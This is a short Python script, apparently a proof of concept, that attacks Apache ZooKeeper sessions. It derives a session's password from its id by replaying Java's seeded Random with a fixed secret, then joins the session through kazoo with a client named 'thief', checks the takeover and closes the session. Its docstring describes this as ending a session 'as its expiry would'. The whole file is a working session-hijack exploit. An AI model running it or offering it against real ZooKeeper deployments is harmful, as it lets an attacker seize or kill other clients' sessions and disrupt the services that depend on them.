"""Ending a ZooKeeper session from outside, as its expiry would."""

from __future__ import annotations

from kazoo.client import KazooClient

_SECRET = 0xB3415C00
_MULTIPLIER = 0x5DEECE66D
_MASK = (1 << 48) - 1


def password(session: int) -> bytes:
    """What ZooKeeper hands out for a session: sixteen bytes of Java's Random, seeded by its id."""
    state = ((session ^ _SECRET) ^ _MULTIPLIER) & _MASK
    found = b""
    while len(found) < 16:
        state = (state * _MULTIPLIER + 0xB) & _MASK
        found += (state >> 16 & 0xFFFFFFFF).to_bytes(4, "little")
    return found


def end_session(connect: str, session: int) -> None:
    """Join the session as its owner would, and close it; the owner learns of it when it comes back."""
    thief = KazooClient(connect, client_id=(session, password(session)), timeout=10)
    thief.start(10)
    assert thief.client_id[0] == session, "the session was not taken over"
    thief.stop()
    thief.close()
